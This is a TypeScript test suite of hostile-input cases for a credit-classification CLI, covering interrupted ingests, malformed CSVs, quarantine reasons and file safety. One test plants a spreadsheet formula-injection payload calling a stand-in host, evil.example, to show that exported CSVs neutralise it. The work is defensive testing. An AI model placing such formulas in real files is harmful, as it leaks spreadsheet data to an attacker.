/**
 * The hostile-input suite (issue 14): each case a tester reproduced, with its exact outcome —
 * exit code, one-line message, and the database and the user's files unchanged where nothing may
 * change.
 */
import { spawn } from "node:child_process";
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openDatabase } from "@creditclass/store";
import { beforeAll, describe, expect, it } from "vitest";
import { cli } from "./run-cli.js";

const bin = new URL("../bin/creditclass.js", import.meta.url).pathname;
const TABLES = ["enterprises", "relations", "events", "quarantine", "duplicates", "ingest_files", "classifications", "classification_runs", "alerts"];

/** A content hash of every table (rows sorted), or "absent" for a database that does not exist. */
async function contents(path: string): Promise<string> {
  if (!existsSync(path)) return "absent";
  const db = await openDatabase(path, { ingest: true });
  try {
    const parts: string[] = [];
    for (const t of TABLES) {
      const [row] = await db.all(`SELECT count(*) AS n, md5(coalesce(string_agg(CAST(s AS VARCHAR), '|' ORDER BY CAST(s AS VARCHAR)), '')) AS h FROM ${t} s`);
      parts.push(`${t}:${row?.n}:${row?.h}`);
    }
    return parts.join(" ");
  } finally {
    db.close();
  }
}

/** The one line a failing command prints. */
function oneLine(stderr: string): string {
  const lines = stderr.trim().split("\n");
  expect(lines).toHaveLength(1);
  return lines[0] as string;
}

describe("hostile input", () => {
  const dir = mkdtempSync(join(tmpdir(), "cc-hostile-"));
  const data = join(dir, "data");
  const good = join(dir, "good.duckdb");

  beforeAll(async () => {
    const made = await cli("generate", "--enterprises", "2000", "--seed", "h", "--end", "2026-10", "--out", data);
    expect(made.code).toBe(0);
    const ingested = await cli("ingest", data, "--db", good, "--reports", join(dir, "reports"), "--period", "2026-10");
    expect(ingested.code).toBe(0);
  }, 120_000);

  /** A folder holding the generated register and relations and the given events file. */
  function withEvents(name: string, events: string): string {
    const folder = join(dir, name);
    mkdirSync(folder, { recursive: true });
    for (const f of ["enterprises.csv", "relations.csv"]) copyFileSync(join(data, f), join(folder, f));
    writeFileSync(join(folder, "events.csv"), events);
    return folder;
  }

  it("a failed ingest changes nothing: a header without `recorded`, an empty file, a duplicated column", async () => {
    const events = readFileSync(join(data, "events.csv"), "utf8");
    const cases: [string, string, RegExp][] = [
      ["no-recorded", events.replace(/^([^\n]*),recorded,/, "$1,"), /^creditclass: events\.csv:1 recorded: missing required column/],
      ["empty", "", /^creditclass: events\.csv:1: missing required column — the file is empty: no header/],
      ["dup-column", events.replace(/^source_id,/, "source_id,uscc,"), /^creditclass: events\.csv:1 uscc: duplicated column in the header/],
    ];
    for (const [name, text, message] of cases) {
      const db = join(dir, `${name}.duckdb`);
      copyFileSync(good, db);
      const before = await contents(db);
      const run = await cli("ingest", withEvents(name, text), "--db", db, "--reports", join(dir, `reports-${name}`));
      expect(run.code, name).toBe(1);
      expect(oneLine(run.stderr)).toMatch(message);
      expect(await contents(db), name).toBe(before);
      expect(existsSync(`${db}.ingesting`)).toBe(false);
    }
  }, 120_000);

  it("--reports naming a file is refused before anything is stored", async () => {
    const db = join(dir, "reports-file.duckdb");
    writeFileSync(join(dir, "a-file"), "mine\n");
    const run = await cli("ingest", data, "--db", db, "--reports", join(dir, "a-file"));
    expect(run.code).toBe(1);
    expect(oneLine(run.stderr)).toMatch(/--reports .*a-file is a file, not a folder: nothing was ingested/);
    expect(existsSync(db)).toBe(false);
    expect(readFileSync(join(dir, "a-file"), "utf8")).toBe("mine\n");
  });

  it("a killed ingest leaves the database as it was (or whole), and commands name the interrupted ingest until it is re-run", async () => {
    const db = join(dir, "killed.duckdb");
    copyFileSync(good, db);
    const before = await contents(db);
    // A second province, so a completed ingest changes the database.
    const more = join(dir, "more");
    expect((await cli("generate", "--enterprises", "2000", "--seed", "other", "--end", "2026-10", "--out", more)).code).toBe(0);
    const reference = join(dir, "reference.duckdb");
    copyFileSync(good, reference);
    expect((await cli("ingest", more, "--db", reference, "--reports", join(dir, "r0"))).code).toBe(0);
    const complete = await contents(reference);
    const seen = new Set<string>();
    for (let k = 0; k < 20; k++) {
      const child = spawn("node", [bin, "ingest", more, "--db", db, "--reports", join(dir, `r${k}`)], { stdio: "ignore" });
      // Kill between 0.3 s (DuckDB and the code loaded) and 1.5 s: before, during and around the transaction.
      await new Promise((r) => setTimeout(r, 300 + ((k * 397) % 1200)));
      child.kill("SIGKILL");
      await new Promise((r) => child.on("exit", r));
      const now = await contents(db);
      expect([before, complete]).toContain(now);
      seen.add(now === before ? "before" : "complete");
      if (now === complete) copyFileSync(good, db);
      if (existsSync(`${db}.ingesting`)) {
        const refused = await cli("classify", "--db", db, "--period", "2026-10");
        expect(refused.code).toBe(1);
        expect(oneLine(refused.stderr)).toMatch(
          /holds an unfinished ingest \(ingest of .*more started .* by process \d+\); it stored nothing: run creditclass ingest again/,
        );
      }
    }
    expect(seen.has("before")).toBe(true);
    // A re-run after the kills gives the database an uninterrupted ingest gives, and the same quality report.
    const rerun = await cli("ingest", more, "--db", db, "--reports", join(dir, "rerun"));
    expect(rerun.code).toBe(0);
    expect(await contents(db)).toBe(complete);
    expect(readFileSync(join(dir, "rerun", "data-quality.json"), "utf8")).toBe(readFileSync(join(dir, "r0", "data-quality.json"), "utf8"));
    expect(existsSync(`${db}.ingesting`)).toBe(false);
  }, 240_000);

  it("absurd values, NUL bytes and an event before the enterprise's establishment are quarantined with their reasons", async () => {
    const lines = readFileSync(join(data, "events.csv"), "utf8").trimEnd().split("\n");
    const header = (lines[0] as string).split(",");
    const register = readFileSync(join(data, "enterprises.csv"), "utf8").split("\n")[1]?.split(",") ?? [];
    const [uscc, , , , , established] = register;
    const row = (fields: Record<string, string>): string => header.map((h) => fields[h] ?? "").join(",");
    const base = {
      kind: "penalty",
      uscc: uscc ?? "",
      severity: "general",
      authority: "市监局",
      case_id: "c",
      date: "2025-03-01",
      recorded: "2025-03-02",
      published: "2025-03-02",
    };
    const bad = [
      row({ ...base, source_id: "H1", amount: "0x10" }),
      row({ ...base, source_id: "H2", amount: "1e308" }),
      row({ ...base, source_id: "H3", amount: "99999999999999999999999" }),
      row({ ...base, source_id: "H4", amount: "5", date: "9999-01-01", recorded: "9999-01-02", published: "9999-01-02" }),
      row({ ...base, source_id: "H5", amount: "5", authority: "市监\u0000局" }),
      row({ ...base, source_id: "H6", amount: "5", date: "1995-01-01", recorded: "1995-01-02", published: "1995-01-02" }),
    ];
    expect(Number((established ?? "").slice(0, 4))).toBeGreaterThan(1995);
    const folder = withEvents("absurd", `${[...lines, ...bad].join("\n")}\n`);
    const db = join(dir, "absurd.duckdb");
    const run = await cli("ingest", folder, "--db", db, "--reports", join(dir, "absurd-reports"));
    expect(run.code).toBe(0);
    const q = readFileSync(join(dir, "absurd-reports", "quarantine.csv"), "utf8");
    const reason = (id: string): string => q.split("\n").find((l) => l.includes(`${id},`) || l.includes(`source_id ${id}`)) ?? "";
    expect(reason("H1")).toMatch(/amount.*is not a decimal number/);
    expect(reason("H2")).toMatch(/amount.*is larger than 1e\+12: check the unit/);
    expect(reason("H3")).toMatch(/amount.*is larger than 1e\+12/);
    expect(reason("H4")).toMatch(/impossible_date.*is outside 1900-01-01 … 2100-12-31/);
    expect(reason("H5")).toMatch(/control_character/);
    expect(reason("H6")).toMatch(/impossible_date,date 1995-01-01 is before the enterprise was established/);
    // Counts of physical records add up, the six included.
    const summary = run.stdout.split("\n").find((l) => l.startsWith("events.csv")) ?? "";
    const [, , read, accepted, quarantined, duplicates] = summary.split(/\s+/).map(Number);
    expect(read).toBe(lines.length - 1 + 6);
    expect((accepted ?? 0) + (quarantined ?? 0) + (duplicates ?? 0)).toBe(read);
  }, 60_000);

  it("every CSV neutralises formula-leading cells: a register tag reaches plan.classes.csv as text", async () => {
    const folder = join(dir, "formula");
    mkdirSync(folder, { recursive: true });
    const [head, first, ...rest] = readFileSync(join(data, "enterprises.csv"), "utf8").trimEnd().split("\n");
    const cells = (first ?? "").split(",");
    cells[9] = '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"';
    writeFileSync(join(folder, "enterprises.csv"), `${[head, cells.join(","), ...rest].join("\n")}\n`);
    for (const f of ["relations.csv", "events.csv"]) copyFileSync(join(data, f), join(folder, f));
    const db = join(dir, "formula.duckdb");
    expect((await cli("ingest", folder, "--db", db, "--reports", join(dir, "formula-reports"))).code).toBe(0);
    const run = await cli("run", "--db", db, "--period", "2026-10", "--out", join(dir, "formula-out"));
    expect(run.code).toBe(0);
    const table = readFileSync(join(dir, "formula-out", "plan.classes.csv"), "utf8");
    expect(table).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(table).not.toMatch(/,"=HYPERLINK/);
  }, 60_000);

  it("an override whose condition names an Object.prototype member is a validation issue, not an internal error", async () => {
    const model = join(dir, "model.json");
    expect((await cli("model", "default", "--out", model)).code).toBe(0);
    const doc = JSON.parse(readFileSync(model, "utf8")) as { models: { overrides?: { when: string }[] }[] };
    const withOverride = doc.models.find((m) => (m.overrides?.length ?? 0) > 0);
    for (const name of ["constructor(1)", "toString(1)", "__proto__(1)", "hasOwnProperty(1)"]) {
      (withOverride?.overrides?.[0] as { when: string }).when = name;
      writeFileSync(model, JSON.stringify(doc));
      const checked = await cli("model", "check", model);
      expect(checked.code, name).toBe(1);
      expect(oneLine(checked.stderr), name).toMatch(/invalid expression|not allowed|unknown name/);
      expect(checked.stderr).not.toMatch(/internal error/);
    }
  }, 60_000);

  it("demo never deletes or overwrites what it did not write", async () => {
    const user = join(dir, "user");
    mkdirSync(join(user, "sub"), { recursive: true });
    writeFileSync(join(user, "important.txt"), "keep\n");
    const refused = await cli("demo", "--enterprises", "500", "--out", user);
    expect(refused.code).toBe(1);
    expect(oneLine(refused.stderr)).toMatch(/holds files that creditclass demo did not write \(important\.txt, sub\)/);
    expect(readdirSync(user).sort()).toEqual(["important.txt", "sub"]);
    const parent = await cli("demo", "--enterprises", "500", "--out", "..");
    expect(parent.code).toBe(1);
    expect(oneLine(parent.stderr)).toMatch(/is the current folder or one of its parents/);
    writeFileSync(join(dir, "afile.txt"), "mine\n");
    const file = await cli("demo", "--enterprises", "500", "--out", join(dir, "afile.txt"));
    expect(file.code).toBe(1);
    expect(readFileSync(join(dir, "afile.txt"), "utf8")).toBe("mine\n");
    // Its own earlier output is replaced (the manifest says what it wrote), and a user's file added beside it survives.
    const own = join(dir, "own");
    expect((await cli("demo", "--enterprises", "500", "--months", "1", "--out", own)).code).toBe(0);
    writeFileSync(join(own, "notes.txt"), "mine\n");
    expect((await cli("demo", "--enterprises", "500", "--months", "1", "--out", own)).code).toBe(0);
    expect(readFileSync(join(own, "notes.txt"), "utf8")).toBe("mine\n");
  }, 120_000);

  it("conflicting outputs, a database that is not one, and a database in use are one-line errors", async () => {
    const same = await cli("sample", "--db", good, "--period", "2026-10", "--seed", "s", "--out", join(dir, "same.json"), "--audit", join(dir, "same.json"));
    expect(same.code).toBe(2);
    expect(oneLine(same.stderr)).toMatch(/two outputs would be written to .*same\.json/);
    const csv = join(dir, "some.csv");
    writeFileSync(csv, "a,b\n1,2\n");
    const notDb = await cli("classify", "--db", csv, "--period", "2026-10");
    expect(notDb.code).toBe(1);
    expect(oneLine(notDb.stderr)).toMatch(/some\.csv is not a creditclass database/);
    expect(readFileSync(csv, "utf8")).toBe("a,b\n1,2\n");
    // Another process holds the database.
    const locker = spawn(
      "node",
      [
        "--input-type=module",
        "-e",
        `import { DuckDBInstance } from "@duckdb/node-api"; await DuckDBInstance.create(${JSON.stringify(good)}); console.log("locked"); setTimeout(() => {}, 20000);`,
      ],
      { cwd: new URL("../../store", import.meta.url).pathname, stdio: ["ignore", "pipe", "inherit"] },
    );
    await new Promise<void>((resolve) => locker.stdout.on("data", () => resolve()));
    try {
      const busy = await cli("classify", "--db", good, "--period", "2026-10");
      expect(busy.code).toBe(1);
      expect(oneLine(busy.stderr)).toMatch(/good\.duckdb is in use by another process \(PID \d+\): wait until it finishes/);
    } finally {
      locker.kill("SIGKILL");
    }
  }, 60_000);
});
